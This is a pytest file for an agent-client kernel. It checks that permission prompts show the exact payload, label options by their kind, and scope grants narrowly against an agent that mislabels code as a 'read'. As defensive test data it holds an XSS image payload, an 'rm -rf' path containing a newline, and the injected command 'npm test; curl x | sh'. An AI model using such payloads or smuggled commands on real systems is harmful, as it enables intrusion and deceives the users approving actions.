"""You approve exactly what runs (issue 21 part 2): a permission question's
options mean their kind, it shows the payload that will run, a grant covers
what was shown (and its action class) and no more, and questions belong to
their turn.

Wire-level cases run the real :class:`~acp_kernel.client.session.Client`
against ``tests/agents/scripted_agent.py`` (a real process over real pipes);
what a question shows is checked in every front-end that shows one: the
ipywidgets form (:class:`~acp_kernel.view.prompts.PermissionForm`), the turn
widget's block (:class:`~acp_kernel.view.turnoutput.TurnOutput`), the
markdown fallback, and the console/CLI text (:func:`~acp_kernel.frontends.ask.permission_question`).
Every shown string carries hostile text: raw HTML, a code span across a line
break, math delimiters and a path with a newline.
"""

from __future__ import annotations

import asyncio
import json
import re
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Callable

import pytest

from acp_kernel.client.host import ClientSettings
from acp_kernel.client.notebook import NotebookSide, SessionBridge
from acp_kernel.client.session import Client
from acp_kernel.client.turn import Notice, Turn
from acp_kernel.errors import INVALID_PARAMS
from acp_kernel.frontends.ask import permission_question
from acp_kernel.services.events import PermissionPrompt, PermissionResolved
from acp_kernel.services.permissions import PermissionBroker
from acp_kernel.view import RecordingSink, TurnOutput
from acp_kernel.view.prompts import PermissionForm
from acp_kernel.view.transcript import permission_markdown

from ..conftest import scripted_spec
from ..faults.conftest import answers, notices
from ..services.conftest import FakeContext, FakeHost
from ..view.conftest import frontend  # noqa: F401  (the fixture recording widget comms)
from .render import live

IMG = "<img src=x onerror=alert(1)>"
SPAN = "`a\nb`"
MATH = "$x$ \\( y \\) \\[ z \\] \\begin{x}"
NL_PATH = "/tmp/evil\n# heading <b>.txt"
HOSTILE = f"{IMG} {SPAN} {MATH}"


def req(method: str, params: dict) -> dict:
    return {"request": {"method": method, "params": params}}


def permission(title: str, raw_input: Any = None, kind: str | None = "execute", tcid: str = "tc",
               options: list[dict] | None = None, content: list[dict] | None = None) -> dict:
    tool_call: dict[str, Any] = {"toolCallId": tcid, "title": title}
    if kind:
        tool_call["kind"] = kind
    if raw_input is not None:
        tool_call["rawInput"] = raw_input
    if content is not None:
        tool_call["content"] = content
    return req("session/request_permission", {"sessionId": "$SID", "toolCall": tool_call, "options": options or [
        {"optionId": "yes", "name": f"Yes {IMG}", "kind": "allow_once"},
        {"optionId": "always", "name": "Always", "kind": "allow_always"},
        {"optionId": "no", "name": "No", "kind": "reject_once"},
    ]})


def create(command: str) -> dict:
    return req("terminal/create", {"sessionId": "$SID", "command": command})


class Run:
    """A real client on the scripted agent; ``person(prompt, run)`` answers each question as it shows."""

    def __init__(self, scenario: dict, ws: Path, person: Callable[[PermissionPrompt, Run], Any] | None,
                 policy: str = "ask") -> None:
        self.scenario, self.ws, self.person, self.policy = scenario, ws, person, policy
        self.asked: list[PermissionPrompt] = []
        self.client: Client | None = None
        self.session: Any = None
        self.tasks: list[asyncio.Task] = []

    def _on_event(self, event: Any) -> None:
        if isinstance(event, PermissionPrompt):
            self.asked.append(event)
            if self.person is not None:
                got = self.person(event, self)
                if asyncio.iscoroutine(got):
                    self.tasks.append(asyncio.ensure_future(got))

    async def __aenter__(self) -> Run:
        self.client = await Client(scripted_spec(self.scenario), cwd=str(self.ws),
                                   settings=ClientSettings(permissions=self.policy), interactive=True).start()
        self.session = await self.client.new_session()
        return self

    async def turn(self, prompt: str) -> Turn:
        turn = self.session.begin(prompt)
        turn.subscribe(self._on_event)
        await asyncio.wait_for(self.session.finish(turn), 30)
        for task in self.tasks:
            await asyncio.wait_for(task, 10)
        for term in self.client.services.terminals.terminals():
            await asyncio.wait_for(term.wait(), 10)
        return turn

    async def __aexit__(self, *exc: Any) -> None:
        await self.client.close()


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    d = tmp_path / "ws"
    d.mkdir()
    return d


def shown_everywhere(prompt: PermissionPrompt, frontend: Any = None) -> dict[str, Any]:
    """The question as each front-end shows it: the widget form (buttons, its
    HTML), the turn widget's block, the markdown fallback, the console text."""
    form = PermissionForm(prompt, widgets=True, detail=prompt.command)
    html = "".join(_html_values(form.widget))
    out: dict[str, Any] = {
        "buttons": [(b.description, b.button_style) for b in form.buttons],
        "html": html,
        "markdown": str(permission_markdown(prompt)),
        "console": permission_question(prompt),
        "plain": form.bundle()["text/plain"],
    }
    if frontend is not None:
        turn = Turn(prompt.session_id)
        TurnOutput(turn, RecordingSink())
        turn.add(prompt)
        (comm_id,) = frontend.opens("acp_kernel.view.turnwidget.TurnWidget")
        model = frontend.models[comm_id]
        out["block"] = next(model[f"b:{i}"] for i in range(model["count"]) if model[f"b:{i}"]["type"] == "permission")
    return out


def _html_values(widget: Any) -> list[str]:
    """Every HTML widget's value in a widget tree, in order."""
    import ipywidgets as w

    if isinstance(widget, w.HTML):
        return [str(widget.value)]
    return [v for child in getattr(widget, "children", ()) for v in _html_values(child)]


def assert_inert(shown: dict[str, Any]) -> None:
    assert live(shown["markdown"]) == [], shown["markdown"]
    assert "<img" not in shown["html"] and "&lt;img src=x onerror=alert(1)&gt;" in shown["html"]
    assert "\x1b" not in shown["console"]


# -- 1. options are what they say -------------------------------------------------------------


async def test_duplicate_option_ids_are_refused_never_the_first_match(ws):
    # A red "Reject" and an allow-always under one id: whichever is clicked, "the first match" decides.
    options = [{"optionId": "x", "name": f"Always allow {IMG}", "kind": "allow_always"},
               {"optionId": "x", "name": "Reject", "kind": "reject_once"},
               {"optionId": "n", "name": "No", "kind": "reject_once"}]
    action = permission(f"Run {HOSTILE}", {"command": f"touch {ws / 'x'}"}, options=options)

    def person(prompt: PermissionPrompt, _run: Run) -> None:
        prompt.answer("x")  # the red one

    async with Run({"prompts": {"go": [action]}}, ws, person) as run:
        turn = await run.turn("go")
    (kind, err), = answers(turn)
    assert kind == "ERROR" and err["code"] == INVALID_PARAMS, err
    assert "malformed" in err["message"] and "'x'" in err["message"] and "more than once" in err["message"]
    assert run.asked == []  # never shown, so never answered by a first match
    assert "malformed" in notices(turn, "warning") and not (ws / "x").exists()
    assert [e.by for e in turn.events if isinstance(e, PermissionResolved)] == ["malformed"]


async def test_option_words_and_colour_come_from_the_kind_in_every_front_end(host_ctx, frontend):  # noqa: F811
    host, ctx = host_ctx
    broker = PermissionBroker(host)
    options = [{"optionId": "o1", "name": "Reject", "kind": "allow_once"},
               {"optionId": "o2", "name": "Allow", "kind": "reject_always"},
               {"optionId": "o3", "name": HOSTILE, "kind": "allow_always"}]
    params = {"sessionId": "s1", "options": options, "toolCall": {
        "toolCallId": "t1", "title": f"Tidy {HOSTILE}", "kind": "execute", "rawInput": {"command": f"rm -rf {NL_PATH}"}}}
    task = asyncio.ensure_future(broker.request_permission(params))
    prompt, = await ctx.until(PermissionPrompt)
    shown = shown_everywhere(prompt, frontend)
    assert_inert(shown)
    # The widget form: words and colour from the kind; the agent's name only beside, as its wording.
    (d1, s1), (d2, s2), (d3, s3) = shown["buttons"]
    assert (d1, s1) == ("Allow once", "success")
    assert d2 == "Always reject `rm -rf /tmp/evil ⏎ # heading <b>.txt` in this session" and s2 == "danger"
    assert d3.startswith("Always allow `rm -rf") and s3 == "success"
    assert "the agent's words: “Reject”" in shown["html"] and "the agent's words: “Allow”" in shown["html"]
    # The turn widget's block (the notebook's view): the same words, the agent's beside them.
    names = [(o["name"], o["kind"]) for o in shown["block"]["options"]]
    assert names[0] == ("Allow once — the agent's words: “Reject”", "allow_once")
    assert names[1][0].startswith("Always reject `rm -rf") and names[1][0].endswith("the agent's words: “Allow”")
    # Console and CLI; the markdown fallback.
    rows = [ln for ln in shown["console"].splitlines() if re.match(r"  \d\. ", ln)]
    assert rows[0] == "  1. Allow once [allow_once]   (the agent's words: “Reject”)"
    assert rows[1].startswith("  2. Always reject `rm -rf") and "[reject_always]" in rows[1]
    assert "Allow once — the agent" in shown["markdown"]
    # The person clicks the red button: it rejects, and "always" is remembered as a reject.
    form = PermissionForm(prompt, widgets=True, detail=prompt.command)
    red = next(b for b in form.buttons if b.button_style == "danger")
    red.click()
    assert (await asyncio.wait_for(task, 5))["outcome"]["optionId"] == "o2"
    again = await broker.request_permission(dict(params, toolCall=dict(params["toolCall"], toolCallId="t2")))
    assert again["outcome"]["optionId"] == "o2" and ctx.of(PermissionResolved)[-1].by == "remembered"
    # Policies pick by kind: allow-all answers the option *named* "Reject" (kind allow_once).
    ctx.settings.permissions = "allow-all"
    other = dict(params["toolCall"], toolCallId="t3", rawInput={"command": "ls"})
    assert (await broker.request_permission(dict(params, toolCall=other)))["outcome"]["optionId"] == "o1"


# -- 2. the question shows what will run ------------------------------------------------------

CODE = f"import pathlib\npathlib.Path({str(NL_PATH)!r}).write_text({IMG!r})  # {SPAN} {MATH}\n"


async def test_the_whole_payload_is_shown_in_every_front_end_never_cut(host_ctx, frontend):  # noqa: F811
    host, ctx = host_ctx
    broker = PermissionBroker(host)
    long_code = "".join(f"step_{i} = {i}  # {IMG if i % 500 == 0 else ''}\n" for i in range(3000))
    raw = {"command": ["make", f"--file={NL_PATH}"], "cwd": f"/work/{IMG}", "env": [{"name": "PATH", "value": f"/evil\nbin {MATH}"}],
           "file_path": NL_PATH, "code": long_code, "extra": {"why": HOSTILE}}
    task = asyncio.ensure_future(broker.request_permission(_request("s1", "t1", "execute", raw, f"Build {HOSTILE}")))
    prompt, = await ctx.until(PermissionPrompt)
    shown = shown_everywhere(prompt, frontend)
    assert_inert(shown)
    for where in ("console", "plain", "markdown"):
        text = shown[where]
        for part in ("make", "--file=/tmp/evil", "cwd: /work/", "PATH=/evil", "bin ", "# heading", "step_0 = 0",
                     "step_2999 = 2999", '"why"'):
            assert part in text, (where, part)
        assert "more characters not shown" not in text and "more lines" not in text, where
    assert shown["block"]["detail"].count("step_") == 3000 and "cwd: /work/" in shown["block"]["detail"]
    assert shown["html"].count("step_") == 3000 and "max-height" in shown["html"]  # whole, in a scrolled box
    assert shown["console"].count("    | step_") == 3000  # every line of the code, each marked
    prompt.reject()
    await asyncio.wait_for(task, 5)


async def test_code_in_a_read_titled_request_is_shown_and_a_read_grant_does_not_cover_the_execute(ws, frontend):  # noqa: F811
    verdicts: list[tuple[bool, str]] = []
    shown: dict[str, Any] = {}

    async def servers_turn(prompt: PermissionPrompt, run: Run) -> None:
        bridge = SessionBridge(SimpleNamespace(session=run.session), NotebookSide(frozenset({"execute"})))
        verdicts.append(await bridge.authorize(CODE))  # what the notebook server asks before it runs
        verdicts.append(await bridge.authorize("x = 1"))
        prompt.allow()

    def person(prompt: PermissionPrompt, run: Run) -> Any:
        tcid = prompt.request.tool_call.tool_call_id
        if tcid == "read":
            shown.update(shown_everywhere(prompt, frontend))
            prompt.allow(always=True)  # "Always allow" on the read
        elif tcid == "wait":
            return servers_turn(prompt, run)
        else:
            prompt.reject()  # the server's own questions
        return None

    actions = [permission(f"Read notes.txt {IMG}", {"code": CODE, "path": NL_PATH}, kind="read", tcid="read"),
               permission("Wait", {"command": "true"}, tcid="wait")]
    async with Run({"prompts": {"go": actions}}, ws, person) as run:
        await run.turn("go")
    # Shown: the code itself, whole, in every front-end, and that a "read" names code to run.
    for where in ("markdown", "console", "plain"):
        text = shown[where]
        assert "pathlib.Path(" in text and "write_text" in text, where
        assert "calls this a 'read'" in text or "calls this a \\'read\\'" in text, (where, text)
    assert "pathlib.Path(" in shown["block"]["detail"] and "# heading" in shown["block"]["detail"]
    assert "    | pathlib.Path(" in shown["console"]  # every line of the code, marked as the payload's
    assert_inert(shown)
    # The server asked about the same code and about other code, showing each: neither was covered.
    assert verdicts == [(False, "the user refused: the code did not run")] * 2
    servers = [p for p in run.asked if p.request.tool_call.tool_call_id.startswith("client-")]
    assert [p.kind for p in servers] == ["execute", "execute"]
    assert "pathlib.Path(" in servers[0].command and "x = 1" in servers[1].command


async def test_allow_reads_asks_a_read_titled_request_that_names_code_or_a_command(ws):
    """``allow-reads`` judges what runs, not what the agent calls it: a plain read
    is allowed by the policy, a "read" whose payload is code or a command is asked."""
    actions = [permission(f"Read notes.txt {IMG}", {"path": str(ws / "notes.txt")}, kind="read", tcid="plain"),
               permission(f"Read notes.txt {HOSTILE}", {"code": CODE, "path": NL_PATH}, kind="read", tcid="code"),
               permission("Search", {"command": f"touch {ws / 'ran'}"}, kind="search", tcid="cmd")]
    async with Run({"prompts": {"go": actions}}, ws, lambda p, r: p.reject(), policy="allow-reads") as run:
        turn = await run.turn("go")
    got = [result["outcome"].get("optionId") for _, result in answers(turn)]
    assert got == ["yes", "no", "no"]  # the plain read by policy; the other two were asked and refused
    assert sorted(p.request.tool_call.tool_call_id for p in run.asked) == ["cmd", "code"]


def text_content(text: str) -> list[dict]:
    return [{"type": "content", "content": {"type": "text", "text": text}}]


def announce(tcid: str, **fields: Any) -> dict:
    return {"update": {"sessionUpdate": "tool_call", "toolCallId": tcid, "title": "execute", **fields}}


ARGS = json.dumps({"code": CODE})


@pytest.mark.parametrize("kind,raw,before,content", [
    ("execute", {"code": CODE}, [], None),
    ("other", {"server": "notebook", "tool": "execute", "arguments": {"code": CODE}}, [], None),  # Claude Code's shape
    (None, {"request": {"_meta": {"tool_params": {"code": CODE}}}}, [], None),  # codex-acp's
    # Gemini CLI 0.61: no rawInput, the MCP call's arguments as the question's content text
    ("execute", None, [], text_content(ARGS)),
    # Kimi 1.52: the call announced with its arguments as content text, the question only names the tool
    (None, None, [announce("mcp", status="in_progress", content=text_content(ARGS))],
     text_content("Requesting approval to perform: Call MCP tool `execute`.")),
    # an agent that announced its rawInput and asks without it
    (None, None, [announce("mcp", kind="other", rawInput={"code": CODE})], None),
], ids=["rawInput", "claude", "codex", "gemini", "kimi", "announced"])
async def test_one_click_the_agents_execute_question_covers_the_servers_for_exactly_that_code_once(
        ws, kind, raw, before, content):
    verdicts: list[tuple[bool, str]] = []

    async def servers_turn(prompt: PermissionPrompt, run: Run) -> None:
        bridge = SessionBridge(SimpleNamespace(session=run.session), NotebookSide(frozenset({"execute"})))
        verdicts.append(await bridge.authorize(CODE))  # covered: no second question
        verdicts.append(await bridge.authorize(CODE))  # once only: asked (and refused)
        prompt.allow()

    def person(prompt: PermissionPrompt, run: Run) -> Any:
        tcid = prompt.request.tool_call.tool_call_id
        if tcid == "wait":
            return servers_turn(prompt, run)
        prompt.allow() if tcid == "mcp" else prompt.reject()
        return None

    actions = [*before, permission("notebook: execute", raw, kind=kind, tcid="mcp", content=content),
               permission("Wait", {"command": "true"}, tcid="wait")]
    async with Run({"prompts": {"go": actions}}, ws, person) as run:
        await run.turn("go")
    assert verdicts == [(True, ""), (False, "the user refused: the code did not run")]
    shown = run.asked[0].command
    assert shown.startswith("Python code to run:\n") and "pathlib.Path(" in shown  # the agent's question showed the code
    assert ("note: read from" in shown) == (raw is None)  # and, when not from rawInput, where it was read
    assert len([p for p in run.asked if p.request.tool_call.tool_call_id.startswith("client-")]) == 1


# -- 3. a grant covers what was shown ---------------------------------------------------------


@pytest.fixture
def host_ctx(tmp_path: Path):
    ws = tmp_path / "ws"
    ws.mkdir(exist_ok=True)
    ctx, other = FakeContext("s1", str(ws), ClientSettings()), FakeContext("s2", str(ws), ClientSettings())
    return FakeHost(ctx, other), ctx


async def _answer(broker: PermissionBroker, ctx: FakeContext, params: dict,
                  choose: Callable[[PermissionPrompt], None]) -> tuple[dict, PermissionPrompt | None]:
    """The broker's answer to ``params``, and the question it asked (``choose`` answers it), or None."""
    asked = asyncio.get_running_loop().create_future()
    listen = (PermissionPrompt, asked)
    ctx.waiters.append(listen)
    task = asyncio.ensure_future(broker.request_permission(params))
    try:
        await asyncio.wait_for(asyncio.wait({task, asked}, return_when=asyncio.FIRST_COMPLETED), 10)
    finally:
        if listen in ctx.waiters:
            ctx.waiters.remove(listen)
    if task.done():
        return task.result(), None
    prompt = asked.result()
    choose(prompt)
    return await asyncio.wait_for(task, 5), prompt


def _request(sid: str, tcid: str, kind: str, raw_input: dict, title: str = f"Test {HOSTILE}") -> dict:
    return {"sessionId": sid, "options": [
        {"optionId": "once", "name": "Allow", "kind": "allow_once"},
        {"optionId": "always", "name": "Always", "kind": "allow_always"},
        {"optionId": "no", "name": "No", "kind": "reject_once"},
    ], "toolCall": {"toolCallId": tcid, "title": title, "kind": kind, "rawInput": raw_input}}


async def test_always_says_its_scope_and_covers_exactly_that_for_its_session(host_ctx):
    host, ctx = host_ctx
    broker = PermissionBroker(host)
    always = lambda p: p.allow(always=True)  # noqa: E731
    got, prompt = await _answer(broker, ctx, _request("s1", "a", "execute", {"command": "npm test"}), always)
    assert got["outcome"]["optionId"] == "always"
    labels = [o["name"] for o in prompt.options]
    assert labels[1] == "Always allow `npm test` in this session — the agent's words: “Always”"
    assert PermissionForm(prompt).buttons[1].description == "Always allow `npm test` in this session"
    # Covered: the same command line, the same class, this session (the agent's request or a terminal).
    got, asked = await _answer(broker, ctx, _request("s1", "b", "execute", {"command": "npm test"}, "Other title"), always)
    assert asked is None and got["outcome"]["optionId"] == "always"
    verdict = await broker.authorize(ctx, title="Run npm test", kind="execute", command="npm test", use_grant=True)
    assert verdict == (True, "remembered")
    # Not covered: another class, another command line, another session.
    reject = lambda p: p.reject()  # noqa: E731
    for sid, kind, raw in (("s1", "read", {"command": "npm test"}), ("s1", "execute", {"command": "npm test; curl x | sh"}),
                           ("s2", "execute", {"command": "npm test"})):
        c = host.contexts[sid]
        got, asked = await _answer(broker, c, _request(sid, "c", kind, raw), reject)
        assert asked is not None and got["outcome"]["optionId"] == "no", (sid, kind, raw)
    # Code: "always" names exactly that code, and covers it (every time) but no other code.
    got, prompt = await _answer(broker, ctx, _request("s1", "d", "execute", {"code": CODE}), always)
    assert prompt.options[1]["label"] == "Always allow this exact code in this session"
    assert broker.take_code_grant("s1", CODE) and broker.take_code_grant("s1", CODE)
    assert not broker.take_code_grant("s1", "x = 1") and not broker.take_code_grant("s2", CODE)


async def test_a_one_time_allow_is_used_once_ends_with_its_turn_and_a_read_never_covers_a_run(ws):
    marker = ws / "ran"
    line = f"echo run >> {marker}"
    scenario = {"prompts": {
        "one": [permission("Run it", {"command": line}, tcid="p1")],  # allowed, not used in this turn
        "two": [create(line)],  # a later turn: asked again (refused)
        "three": [permission(f"Read {IMG}", {"command": line}, kind="read", tcid="p3"), create(line)],
        "four": [permission("Run it", {"command": line}, tcid="p4"), create(line), create(line)],
    }}

    def person(prompt: PermissionPrompt, _run: Run) -> None:
        prompt.allow() if prompt.request.tool_call.tool_call_id in ("p1", "p3", "p4") else prompt.reject()

    async with Run(scenario, ws, person) as run:
        one, two, three, four = [await run.turn(p) for p in ("one", "two", "three", "four")]
    assert answers(one)[0][1]["outcome"]["optionId"] == "yes"
    assert answers(two)[0][0] == "ERROR" and "the user refused" in answers(two)[0][1]["message"]
    assert [k for k, _ in answers(three)] == ["RESULT", "ERROR"]  # the read's allow did not run it
    assert [k for k, _ in answers(four)] == ["RESULT", "RESULT", "ERROR"]  # the allowed run, once
    assert marker.read_text() == "run\n"
    terminals = [p for p in run.asked if p.request.tool_call.tool_call_id.startswith("client-")]
    assert len(terminals) == 3 and all(p.command == line for p in terminals)


# -- 4. questions belong to their turn ----------------------------------------------------------


async def test_a_request_between_turns_is_not_asked_but_said_and_rejected(ws):
    late = permission(f"Late {HOSTILE}", {"command": f"touch {ws / 'late'}"}, tcid="late")
    scenario = {"prompts": {"go": [{"chunk": "hello"}], "again": [{"chunk": "again"}]}, "after_prompt": [late]}
    async with Run(scenario, ws, lambda p, r: p.allow()) as run:
        first = await run.turn("go")
        got: asyncio.Future = asyncio.get_running_loop().create_future()
        first.subscribe(lambda ev: got.done() or not answers(first) or got.set_result(answers(first)))
        if answers(first):
            got.set_result(answers(first))
        (kind, result), = await asyncio.wait_for(got, 20)
        between = [n.text for n in first.events if isinstance(n, Notice) and n.kind == "between-turns"]
        second = await run.turn("again")
        pending = run.client.services.permissions.pending()
    assert kind == "RESULT" and result == {"outcome": {"outcome": "selected", "optionId": "no"}}
    assert run.asked == [] and not (ws / "late").exists()
    assert len(between) == 1 and "no turn was running" in between[0] and "reject_once" in between[0]
    assert not [e for e in second.events if isinstance(e, PermissionPrompt)]
    assert pending == []


async def test_the_end_of_a_turn_answers_pending_questions_cancelled(ws):
    pending_request = {"send": {"jsonrpc": "2.0", "id": "late-1", "method": "session/request_permission", "params": {
        "sessionId": "$SID", "toolCall": {"toolCallId": "p", "title": f"Pending {HOSTILE}", "kind": "execute",
                                          "rawInput": {"command": "true"}},
        "options": [{"optionId": "yes", "name": "Yes", "kind": "allow_once"}]}}}
    (ws / "f.txt").write_text("x")
    # A read answered after the question is up (requests are handled in order), then the turn ends.
    read = req("fs/read_text_file", {"sessionId": "$SID", "path": str(ws / "f.txt")})
    scenario = {"prompts": {"go": [pending_request, read, {"stop": "end_turn"}]}}
    async with Run(scenario, ws, None) as run:  # nobody answers
        turn = await run.turn("go")
        asked = list(run.asked)
        left = run.client.services.permissions.pending()
    assert turn.stop_reason == "end_turn" and len(asked) == 1
    assert left == [] and asked[0].done
    assert [e.by for e in turn.events if isinstance(e, PermissionResolved)] == ["cancelled"]
